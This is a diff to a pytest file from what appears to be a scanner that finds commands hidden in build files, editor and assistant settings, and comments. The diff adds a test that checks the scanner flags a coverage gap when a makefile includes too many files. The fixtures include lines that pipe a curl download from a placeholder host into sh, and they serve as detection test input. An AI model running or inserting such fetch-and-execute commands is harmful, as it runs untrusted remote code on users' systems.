@@ -1,11 +1,13 @@
 """Commands in build files, in settings of editors and assistants, and in comments that tools obey."""
 
 import pytest
-from source_lab import behaviours, look, the
+from source_lab import Version, behaviours, look, the
 
+from beartrap.model.coverage import Gap
 from beartrap.vet.behaviour import Behaviour, When
 from beartrap.vet.kinds import Kind
 from beartrap.vet.source.texts.configured import of_configuration
+from beartrap.vet.source_included import IncludingFiles
 
 PIPE = "curl -s http://c.invalid/x | sh"
 
@@ -89,3 +91,11 @@ def test_apt_runs_what_its_configuration_says() -> None:
         (2, "curl -s https://a.thing.invalid/u | sh"),
     ]
     assert not list(of_configuration("usr/share/doc/thing/99thing", text))
+
+
+@pytest.mark.parametrize("many", [16, 17])
+def test_more_included_files_than_are_read_with_one_are_told(many: int) -> None:
+    files = {f"{number}.mk": f"V{number} = {number}\n" for number in range(many)}
+    files["all.mk"] = "include " + " ".join(files) + "\nall:\n\t$(V0)\n"
+    told = [one for one in IncludingFiles().look(Version(files)) if isinstance(one, Gap)]
+    assert len(told) == (many > 16) and not any(one.questions for one in told)
